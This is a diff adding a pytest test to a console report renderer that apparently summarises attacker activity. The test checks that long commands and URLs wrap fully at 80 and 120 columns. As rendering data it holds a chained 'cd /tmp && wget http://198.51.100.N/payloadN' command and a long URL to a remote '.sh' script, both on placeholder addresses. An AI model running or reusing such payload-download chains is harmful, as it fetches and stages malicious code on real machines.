@@ -434,3 +434,21 @@ if __name__ == "__main__":  # pragma: no cover - manual preview: python tests/te
     Console(width=int(sys.argv[2]) if len(sys.argv) > 2 else None).print(
         render_report(example_document(kind, hostile="hostile" in sys.argv))
     )
+
+
+@pytest.mark.parametrize("width", [80, 120])
+def test_long_commands_and_urls_wrap_in_full(width: int) -> None:
+    document = example_document("daily")
+    command = "cd /tmp && " + " && ".join(
+        f"wget http://198.51.100.{i}/payload{i}" for i in range(8)
+    )
+    url = "http://203.0.113.9/" + "a" * 150 + "/end.sh"
+    document["commands"]["top_commands"] = [{"value": command, "count": 7777}]
+    document["files"]["top_urls"] = [{"value": url, "count": 8888}]
+    text = render_to_text(document, width)
+    # Joined lines without the counts, which stand beside the first line of their value.
+    lines = [line.replace("7,777", "").replace("8,888", "") for line in text.splitlines()]
+    flat = "".join(line.strip() for line in lines)
+    assert command.replace(" ", "") in flat.replace(" ", "")  # every character, wrapped
+    assert url in flat
+    assert max(len(line) for line in text.splitlines()) <= width
